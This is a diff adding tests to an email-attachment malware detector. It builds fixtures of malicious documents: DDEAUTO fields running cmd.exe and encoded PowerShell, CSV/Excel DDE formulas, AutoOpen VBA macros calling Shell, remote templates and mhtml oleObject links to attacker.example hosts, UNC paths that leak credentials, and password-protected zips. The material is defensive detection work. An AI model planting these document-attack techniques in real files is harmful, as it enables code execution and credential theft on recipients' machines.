@@ -5,8 +5,11 @@ file is used as a fixture."""
 
 from __future__ import annotations
 
+import base64
 import io
 import struct
+import zipfile
+import zlib
 from email.message import EmailMessage
 from pathlib import Path
 
@@ -80,3 +83,396 @@ def _mail(attachment: bytes, filename: str, maintype: str = "application", subty
 
 def _attachment_findings(raw: bytes) -> dict[str, list[Finding]]:
     return _codes([f for f in analyse(load_bytes(raw)).findings if f.category != Category.SENDER])
+
+
+# --- Builders: Office Open XML, OLE2, RTF, PDF, archives -------------------------------------------
+
+CONTENT_TYPES = (
+    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
+)
+RELS_NS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def _zip(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def _docx(document: bytes, extra: dict[str, bytes] | None = None) -> bytes:
+    body = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
+    members = {
+        "[Content_Types].xml": CONTENT_TYPES,
+        "_rels/.rels": RELS_NS + b'<Relationship Id="rId1" Type="' + REL + b'officeDocument" '
+        b'Target="word/document.xml"/></Relationships>',
+        "word/document.xml": body + document + b"</w:body></w:document>",
+    }
+    return _zip({**members, **(extra or {})})
+
+
+def _xlsx(extra: dict[str, bytes]) -> bytes:
+    members = {
+        "[Content_Types].xml": CONTENT_TYPES,
+        "_rels/.rels": RELS_NS + b'<Relationship Id="rId1" Type="' + REL + b'officeDocument" '
+        b'Target="xl/workbook.xml"/></Relationships>',
+        "xl/workbook.xml": b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
+    }
+    return _zip({**members, **extra})
+
+
+def _run(text: str) -> bytes:
+    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'.encode()
+
+
+def _field(*runs: str) -> bytes:
+    begin = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    end = b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+    return begin + b"".join(_run(r) for r in runs) + end + b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+
+
+def _ole(streams: dict[str, bytes]) -> bytes:
+    """An OLE2 compound file holding `streams` ("Storage/Stream" paths), written by extract-msg's writer."""
+    writer = OleWriter()
+    for path, data in streams.items():
+        writer.addEntry(path.split("/"), data=data)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _ovba(text: str) -> bytes:
+    """MS-OVBA compressed container holding `text` as literal tokens only (valid, just not smaller)."""
+    data = text.encode("latin-1")
+    assert len(data) <= 4096
+    body = b"".join(b"\x00" + data[i : i + 8] for i in range(0, len(data), 8))
+    header = (len(body) + 2 - 3) | 0xB000  # size - 3, signature 0b011, compressed flag
+    return b"\x01" + header.to_bytes(2, "little") + body
+
+
+VBA_SOURCE = 'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "cmd /c calc"\r\nEnd Sub\r\n'
+
+
+def _vba_project(source: str = VBA_SOURCE) -> bytes:
+    return _ole({"VBA/ThisDocument": b"\x00" * 40 + _ovba(source), "VBA/dir": b"\x01\x00\x00", "PROJECT": b"ID=x"})
+
+
+def _flag_encrypted(archive: bytes) -> bytes:
+    """Set the 'encrypted' bit of every member, as a zip tool with a password does (content left as is)."""
+    data = bytearray(archive)
+    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = data.find(signature)
+        while at >= 0:
+            data[at + offset] |= 0x01
+            at = data.find(signature, at + 4)
+    return bytes(data)
+
+
+def _hex(data: bytes) -> str:
+    return data.hex()
+
+
+def _ole1(class_name: bytes, native: bytes = b"") -> bytes:
+    """An OLE1 EmbeddedObject header, as RTF \\objdata carries it."""
+    name = class_name + b"\x00"
+    return (
+        b"\x01\x05\x00\x00\x02\x00\x00\x00"
+        + len(name).to_bytes(4, "little")
+        + name
+        + b"\x00" * 8
+        + len(native).to_bytes(4, "little")
+        + native
+    )
+
+
+# --- Office Open XML ---------------------------------------------------------------------------------
+
+
+def test_dde_field_split_over_runs_and_remote_template() -> None:
+    """Issue 20's shape: DDEAUTO cmd.exe (written in two runs, as attackers do) and a remote attachedTemplate."""
+    settings_rels = (
+        RELS_NS + b'<Relationship Id="rId9" Type="' + REL + b'attachedTemplate" '
+        b'Target="https://templates.attacker.example/t.dotm" TargetMode="External"/></Relationships>'
+    )
+    document = _field("DDE", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k powershell -enc SQBFAFgA"')
+    raw = _mail(_docx(document, {"word/_rels/settings.xml.rels": settings_rels}), "offer.docx")
+    codes = _attachment_findings(raw)
+    [dde] = codes["DDE_FIELD"]
+    assert dde.severity == Severity.HIGH
+    assert dde.evidence["member"] == "word/document.xml"
+    assert dde.evidence["field"].startswith("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")
+    [template] = codes["REMOTE_TEMPLATE"]
+    assert template.host == "templates.attacker.example" and template.severity == Severity.HIGH
+
+
+def test_field_fetching_from_a_share_is_a_share_path() -> None:
+    document = _field('INCLUDEPICTURE "\\\\\\\\files.attacker.example\\\\share\\\\logo.png" \\d')
+    [unc] = _attachment_findings(_mail(_docx(document), "letter.docx"))["UNC_PATH"]
+    assert unc.host == "files.attacker.example" and unc.severity == Severity.HIGH
+    assert unc.vector == "ooxml-field:INCLUDEPICTURE" and "windows_credentials" in unc.reveals
+    assert "password hash" in unc.explanation
+
+
+def test_fld_simple_with_entities_is_read() -> None:
+    document = b'<w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
+    [dde] = _attachment_findings(_mail(_docx(document), "a.docx"))["DDE_FIELD"]
+    assert dde.evidence["field"] == 'DDEAUTO cmd "/c calc"'
+
+
+def test_excel_dde_link_and_formula() -> None:
+    link = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>'
+    sheet = b"<worksheet><sheetData><row><c r='A1'><f>cmd|' /C powershell.exe'!A0</f></c></row></sheetData></worksheet>"
+    raw = _mail(_xlsx({"xl/externalLinks/externalLink1.xml": link, "xl/worksheets/sheet1.xml": sheet}), "q.xlsx")
+    fields = sorted(f.evidence["field"] for f in _attachment_findings(raw)["DDE_FIELD"])
+    assert fields == ["DDE cmd|' /C powershell.exe'", "DDE cmd|'/c calc.exe'"]
+
+
+def test_csv_dde_formula() -> None:
+    csv = b"name,amount\r\nalice,=cmd|' /C calc'!A0\r\nbob,12\r\n"
+    [dde] = _attachment_findings(_mail(csv, "export.csv", "text", "csv"))["DDE_FIELD"]
+    assert dde.evidence["field"] == "DDE cmd|' /C calc'" and dde.evidence["member"] == "csv"
+
+
+def test_vba_project_is_a_macro_document_with_what_it_does() -> None:
+    raw = _mail(_docx(b"<w:p/>", {"word/vbaProject.bin": _vba_project()}), "report.docm")
+    codes = _attachment_findings(raw)
+    [macro] = codes["MACRO_DOCUMENT"]
+    assert macro.category == Category.ATTACHMENT and macro.severity == Severity.HIGH
+    assert macro.evidence["auto_run"] == ["AutoOpen"] and macro.evidence["calls"] == ["Shell"]
+    assert "word/vbaProject.bin" in macro.evidence["seen"]
+    assert "run by themselves (AutoOpen)" in macro.explanation
+    assert "RISKY_ATTACHMENT" not in codes  # the content finding replaces the name-based one
+
+
+def test_macro_workbook_renamed_as_a_picture() -> None:
+    raw = _mail(_xlsx({"xl/vbaProject.bin": _vba_project()}), "holiday.jpg", "image", "jpeg")
+    [macro] = _attachment_findings(raw)["MACRO_DOCUMENT"]
+    assert macro.evidence["name_hides_type"] is True
+    assert "holiday.jpg" in macro.explanation and "does not say what it is" in macro.explanation
+
+
+def test_excel4_macro_sheet_with_auto_open() -> None:
+    workbook = (
+        b'<workbook><definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames></workbook>'
+    )
+    raw = _mail(_xlsx({"xl/workbook.xml": workbook, "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}), "b.xlsx")
+    [macro] = _attachment_findings(raw)["MACRO_DOCUMENT"]
+    assert macro.evidence["seen"] == ["xl/macrosheets/sheet1.xml"] and macro.evidence["auto_run"] == ["Auto_Open"]
+
+
+def test_remote_ole_object_relationship_is_an_ole_object_with_its_host() -> None:
+    """CVE-2021-40444: an external oleObject relationship through mhtml:."""
+    rels = (
+        RELS_NS + b'<Relationship Id="rId5" Type="' + REL + b'oleObject" '
+        b'Target="mhtml:http://payload.attacker.example/x.html!x-usc:http://payload.attacker.example/x.html" '
+        b'TargetMode="External"/></Relationships>'
+    )
+    [obj] = _attachment_findings(_mail(_docx(b"<w:p/>", {"word/_rels/document.xml.rels": rels}), "c.docx"))[
+        "OLE_OBJECT"
+    ]
+    assert obj.severity == Severity.HIGH and obj.host == "payload.attacker.example"
+    assert obj.evidence["linked"] is True and obj.evidence["target"].startswith("mhtml:")
+
+
+def test_embedded_package_object_names_its_file() -> None:
+    native = b"\x00\x00\x00\x00\x02\x00invoice.exe\x00C:\\tmp\\invoice.exe\x00\x00\x00"
+    package = _ole({"\x01Ole10Native": native, "\x01CompObj": b"\x00" * 28})
+    raw = _mail(_docx(b"<w:p/>", {"word/embeddings/oleObject1.bin": package}), "d.docx")
+    [obj] = _attachment_findings(raw)["OLE_OBJECT"]
+    assert obj.severity == Severity.HIGH
+    assert obj.evidence["class"] == "Package" and obj.evidence["embedded_file"] == "invoice.exe"
+    assert obj.evidence["member"] == "word/embeddings/oleObject1.bin"
+
+
+def test_plain_documents_have_no_attack_finding() -> None:
+    link = (
+        RELS_NS + b'<Relationship Id="rId2" Type="' + REL + b'hyperlink" '
+        b'Target="https://www.example.org/" TargetMode="External"/></Relationships>'
+    )
+    plain = [
+        _mail(_docx(b"<w:p><w:r><w:t>Hello</w:t></w:r></w:p>", {"word/_rels/document.xml.rels": link}), "a.docx"),
+        _mail(_xlsx({"xl/worksheets/sheet1.xml": b"<worksheet><c><f>SUM(A1:A3)</f></c></worksheet>"}), "b.xlsx"),
+        _mail(b"name;amount\r\nalice;=A1+2\r\n", "c.csv", "text", "csv"),
+        _mail(_zip({"notes.txt": b"hello"}), "notes.zip", "application", "zip"),
+        _mail(b'{\\rtf1\\ansi Hello {\\field{\\*\\fldinst HYPERLINK "https://www.example.org"}}}', "e.rtf"),
+        _mail(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF", "f.pdf"),
+    ]
+    attack = {"DDE_FIELD", "MACRO_DOCUMENT", "OLE_OBJECT", "ENCRYPTED_ATTACHMENT", "UNC_PATH", "REMOTE_TEMPLATE"}
+    for raw in plain:
+        assert not attack & set(_attachment_findings(raw))
+
+
+# --- OLE2 (legacy Office) ----------------------------------------------------------------------------
+
+
+def test_legacy_word_file_with_macros_and_dde() -> None:
+    word = b"\xec\xa5" + b"\x00" * 30 + b'text \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"\x14x\x15'
+    doc = _ole(
+        {"WordDocument": word, "Macros/VBA/ThisDocument": b"\x00" * 8 + _ovba(VBA_SOURCE), "Macros/PROJECT": b"x"}
+    )
+    codes = _attachment_findings(_mail(doc, "invoice.doc", "application", "msword"))
+    [macro] = codes["MACRO_DOCUMENT"]
+    assert macro.evidence["container"] == "OLE2 (legacy Office)" and "Macros/VBA" in macro.evidence["seen"]
+    assert macro.evidence["auto_run"] == ["AutoOpen"] and "name_hides_type" not in macro.evidence
+    [dde] = codes["DDE_FIELD"]
+    assert dde.vector == "doc-field:DDEAUTO" and dde.evidence["member"] == "WordDocument"
+
+
+def test_legacy_excel_macro_project_hidden_behind_a_pdf_name() -> None:
+    book = _ole({"Workbook": b"\x09\x08\x00\x00", "_VBA_PROJECT_CUR/VBA/Module1": b"\x00" * 4 + _ovba(VBA_SOURCE)})
+    [macro] = _attachment_findings(_mail(book, "statement.pdf", "application", "pdf"))["MACRO_DOCUMENT"]
+    assert macro.evidence["name_hides_type"] is True
+    assert macro.evidence["seen"][0].startswith("_VBA_PROJECT_CUR")
+
+
+def test_encrypted_office_documents() -> None:
+    ooxml = _ole({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x00" * 64})
+    word = _ole({"WordDocument": b"\xec\xa5" + b"\x00" * 9 + b"\x01" + b"\x00" * 20})
+    book = _ole({"Workbook": b"\x09\x08\x02\x00\x00\x06" + b"\x2f\x00\x02\x00\x01\x00"})
+    for raw, seen in ((ooxml, "EncryptedPackage"), (word, "fEncrypted"), (book, "FILEPASS")):
+        [locked] = _attachment_findings(_mail(raw, "salary.docx"))["ENCRYPTED_ATTACHMENT"]
+        assert locked.severity == Severity.MEDIUM and seen in locked.evidence["seen"]
+    [ooxml_locked] = _attachment_findings(_mail(ooxml, "salary.docx"))["ENCRYPTED_ATTACHMENT"]
+    assert "name_hides_type" not in ooxml_locked.evidence
+
+
+# --- RTF ---------------------------------------------------------------------------------------------
+
+
+def test_rtf_equation_object_that_updates_itself() -> None:
+    rtf = b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata " + _hex(_ole1(b"Equation.3")).encode() + b"}}}"
+    [obj] = _attachment_findings(_mail(rtf, "order.doc", "application", "msword"))["OLE_OBJECT"]
+    assert obj.severity == Severity.HIGH
+    assert obj.evidence["class"] == "Equation.3" and obj.evidence["auto_update"] is True
+    assert obj.evidence["kind"] == "objemb" and obj.evidence["name_hides_type"] is True
+
+
+def test_rtf_package_object_with_noise_in_its_hex_and_a_bare_rt_header() -> None:
+    native = b"\x02\x00report.pdf.lnk\x00C:\\x\\report.pdf.lnk\x00"
+    hexdata = _hex(_ole1(b"Package", native))
+    noisy = hexdata[:10] + "\r\n{\\*\\junk}" + hexdata[10:30] + " \\par " + hexdata[30:]
+    rtf = b"{\\rtxyz{\\object{\\*\\objdata " + noisy.encode() + b"}}}"
+    [obj] = _attachment_findings(_mail(rtf, "a.rtf"))["OLE_OBJECT"]
+    assert obj.evidence["class"] == "Package" and obj.evidence["embedded_file"] == "report.pdf.lnk"
+
+
+def test_rtf_dde_field_split_in_groups() -> None:
+    rtf = b'{\\rtf1{\\field{\\*\\fldinst {\\rtlch DD}{E\\\'41UTO cmd "/c calc"}}{\\fldrslt x}}}'
+    [dde] = _attachment_findings(_mail(rtf, "b.rtf"))["DDE_FIELD"]
+    assert dde.evidence["field"] == 'DDEAUTO cmd "/c calc"' and dde.vector == "rtf-field:DDEAUTO"
+
+
+def test_rtf_template_on_a_share() -> None:
+    rtf = b"{\\rtf1{\\*\\template \\\\\\\\smb.attacker.example\\\\t\\\\n.dotm}}"
+    [unc] = _attachment_findings(_mail(rtf, "c.rtf"))["UNC_PATH"]
+    assert unc.host == "smb.attacker.example" and unc.vector == "rtf:\\*\\template"
+
+
+# --- OpenDocument, ActiveMime -------------------------------------------------------------------------
+
+
+def test_odt_with_basic_macro_on_load_and_remote_template() -> None:
+    meta = (
+        b'<office:document-meta><meta:template xlink:href="https://tpl.attacker.example/t.ott"/></office:document-meta>'
+    )
+    content = (
+        b"<office:document-content><office:scripts><office:event-listeners><script:event-listener "
+        b'script:language="ooo:script" script:event-name="office:load" '
+        b'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
+        b"</office:event-listeners></office:scripts></office:document-content>"
+    )
+    odt = _zip(
+        {
+            "mimetype": b"application/vnd.oasis.opendocument.text",
+            "content.xml": content,
+            "meta.xml": meta,
+            "Basic/Standard/Module1.xml": b'<script:module>Sub Main\nShell("calc")\nEnd Sub</script:module>',
+            "Basic/Standard/script-lb.xml": b"<library:library/>",
+        }
+    )
+    codes = _attachment_findings(_mail(odt, "minutes.odt"))
+    [macro] = codes["MACRO_DOCUMENT"]
+    assert macro.evidence["seen"] == ["Basic/Standard/Module1.xml"] and macro.evidence["auto_run"] == ["office:load"]
+    [template] = codes["REMOTE_TEMPLATE"]
+    assert template.host == "tpl.attacker.example" and template.vector == "odf:meta.xml[meta:template]"
+
+
+def test_word_xml_with_activemime_macros() -> None:
+    blob = b"ActiveMime\x00\x00\x01\xf0" + b"\x00" * 36 + zlib.compress(_ole({"Macros/VBA/ThisDocument": b"x"}))
+    xml = (
+        b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument><w:docOleData>'
+        b'<w:binData w:name="editdata.mso">'
+        + base64.encodebytes(blob)
+        + b"</w:binData></w:docOleData></w:wordDocument>"
+    )
+    [macro] = _attachment_findings(_mail(xml, "memo.xml", "text", "xml"))["MACRO_DOCUMENT"]
+    assert macro.evidence["seen"] == ["ActiveMime: Macros/VBA"]
+
+
+# --- Archives, PDF, plain text ------------------------------------------------------------------------
+
+
+def test_encrypted_zip_with_the_password_in_the_message() -> None:
+    locked = _flag_encrypted(_zip({"scan_0412.js": b"x" * 40}))
+    raw = _mail(locked, "scan.zip", "application", "zip", body="Your invoice is attached. Password: 4412")
+    codes = _attachment_findings(raw)
+    [enc] = codes["ENCRYPTED_ATTACHMENT"]
+    assert enc.evidence["container"] == "zip archive" and "scan_0412.js" in enc.evidence["seen"]
+    assert enc.evidence["password_hint"] == "Password: 4412"
+    assert "Password: 4412" in enc.explanation
+    assert codes["RISKY_ATTACHMENT"][0].severity == Severity.HIGH  # the member names are still listed
+
+
+def test_encrypted_rar() -> None:
+    main = b"\x00\x00\x73\x00\x00\x0d\x00" + b"\x00" * 6
+    entry = b"\x00\x00\x74\x04\x80\x20\x00" + (16).to_bytes(4, "little") + b"\x00" * 21
+    rar = b"Rar!\x1a\x07\x00" + main + entry + b"\x00" * 16
+    [enc] = _attachment_findings(_mail(rar, "docs.rar"))["ENCRYPTED_ATTACHMENT"]
+    assert enc.evidence["container"] == "RAR archive"
+
+
+def test_pdf_encrypted_and_pdf_pointing_to_a_share() -> None:
+    locked = b"%PDF-1.6\n1 0 obj << >> endobj\ntrailer << /Root 1 0 R /Encrypt 9 0 R >>\n%%EOF"
+    [enc] = _attachment_findings(_mail(locked, "statement.pdf"))["ENCRYPTED_ATTACHMENT"]
+    assert enc.evidence["container"] == "PDF"
+    share = b"%PDF-1.4\n1 0 obj << /AA << /O << /S /GoToE /F (\\\\\\\\smb.attacker.example\\\\s\\\\a.pdf) >> >> >>"
+    [unc] = _attachment_findings(_mail(share, "b.pdf"))["UNC_PATH"]
+    assert unc.host == "smb.attacker.example" and unc.vector == "pdf:/F"
+    assert unc.evidence["value"] == "\\\\smb.attacker.example\\s\\a.pdf"
+
+
+def test_share_path_in_a_plain_text_body() -> None:
+    msg = EmailMessage()
+    msg["From"], msg["To"], msg["Subject"] = "a@sender.example", "b@victim.example", "scan"
+    msg.set_content("The scan is on \\\\files.attacker.example\\scans\\0412.pdf, please check.")
+    [unc] = _codes(analyse(load_bytes(msg.as_bytes())).findings)["UNC_PATH"]
+    assert unc.host == "files.attacker.example" and unc.severity == Severity.MEDIUM
+    assert unc.vector == "text:share-path" and unc.url == "file://files.attacker.example/scans/0412.pdf"
+
+
+def _compobj(progid: bytes) -> bytes:
+    """A \\x01CompObj stream: 28-byte header, user type, clipboard format, then the ProgID."""
+    user = b"Microsoft Object\x00"
+    return (
+        b"\x00" * 28
+        + len(user).to_bytes(4, "little")
+        + user
+        + b"\x00" * 4
+        + (len(progid) + 1).to_bytes(4, "little")
+        + progid
+        + b"\x00"
+    )
+
+
+def test_legacy_document_describing_itself_is_no_object_but_its_embedded_chart_is_a_low_one() -> None:
+    plain = _ole({"WordDocument": b"\xec\xa5" + b"\x00" * 30, "\x01CompObj": _compobj(b"Word.Document.8")})
+    assert "OLE_OBJECT" not in _attachment_findings(_mail(plain, "minutes.doc", "application", "msword"))
+    chart = _ole(
+        {"WordDocument": b"\xec\xa5" + b"\x00" * 30, "ObjectPool/_1234/\x01CompObj": _compobj(b"Excel.Sheet.8")}
+    )
+    [obj] = _attachment_findings(_mail(chart, "minutes.doc", "application", "msword"))["OLE_OBJECT"]
+    assert obj.severity == Severity.LOW and obj.evidence["class"] == "Excel.Sheet.8"
+    assert obj.evidence["storage"] == "ObjectPool/_1234"
